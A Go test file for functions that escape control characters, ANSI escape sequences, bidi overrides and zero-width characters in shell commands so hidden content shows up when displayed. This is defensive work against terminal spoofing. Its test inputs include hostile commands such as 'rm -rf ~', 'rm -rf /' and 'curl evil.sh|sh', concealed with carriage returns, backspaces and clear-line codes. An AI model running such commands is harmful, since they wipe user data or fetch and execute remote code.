package api

import (
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscapeControl(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "git status --porcelain", "git status --porcelain"},
		{"non-latin stays", "echo héllo 日本語 ✓", "echo héllo 日本語 ✓"},
		{"carriage return hides a prefix", "rm -rf ~\recho hello", `rm -rf ~\recho hello`},
		{"backspaces erase", "curl evil.sh|sh\b\b\b\b\b\b\b\b\b\b\b\b\b\bls", `curl evil.sh|sh\b\b\b\b\b\b\b\b\b\b\b\b\b\bls`},
		{"ANSI clear line", "rm -rf ~ \x1b[2K\x1b[1Gls -la", `rm -rf ~ \x1b[2K\x1b[1Gls -la`},
		{"ANSI OSC title", "x\x1b]0;owned\x07", `x\x1b]0;owned\a`},
		{"bidi override", "ls \u202etxt.exe", `ls \u202etxt.exe`},
		{"bidi isolates and marks", "a\u2066b\u2069c\u200fd\u061c", `a\u2066b\u2069c\u200fd\u061c`},
		{"zero width", "r\u200bm -\u200drf\ufeff", `r\u200bm -\u200drf\ufeff`},
		{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"newline and tab", "echo a\n\trm -rf /", `echo a\n\trm -rf /`},
		{"NUL and DEL", "a\x00b\x7fc", `a\x00b\x7fc`},
		{"C1 CSI", "a\u009b2Kb", `a\u009b2Kb`},
		{"no-break space", "rm\u00a0-rf", `rm\u00a0-rf`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"tag characters", "a\U000E0041b", `a\U000e0041b`},
		{"backslash doubled, so escapes are unambiguous", `printf '\x1b'`, `printf '\\x1b'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := EscapeControl(tt.in)
			if got != tt.want {
				t.Errorf("EscapeControl(%q) = %q, want %q", tt.in, got, tt.want)
			}
			for _, r := range got {
				if r != ' ' && !unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r) {
					t.Errorf("output %q still holds %U", got, r)
				}
			}
			if !utf8.ValidString(got) {
				t.Errorf("output %q is not UTF-8", got)
			}
		})
	}
}

// FuzzEscapeControl: whatever the input, the output is valid UTF-8 made of
// visible characters and ASCII spaces only.
func FuzzEscapeControl(f *testing.F) {
	for _, s := range []string{"ls", "a\rb", "\x1b[31m", "\u202e", "\xff\xfe", `\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := EscapeControl(s)
		if !utf8.ValidString(got) {
			t.Fatalf("%q → %q: not UTF-8", s, got)
		}
		for _, r := range got {
			if !visible(r) {
				t.Fatalf("%q → %q: holds %U", s, got, r)
			}
		}
		if isPlain(s) && got != s {
			t.Fatalf("plain %q changed to %q", s, got)
		}
	})
}

func TestEscapeArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"git", "status"}, "git status"},
		{[]string{"printf", "a b", ""}, "printf 'a b' ''"},
		{[]string{"echo", "it's", "\x1b[2K"}, `echo 'it'\''s' \x1b[2K`},
	}
	for _, tt := range tests {
		if got := EscapeArgv(tt.argv); got != tt.want {
			t.Errorf("EscapeArgv(%q) = %q, want %q", tt.argv, got, tt.want)
		}
	}
}
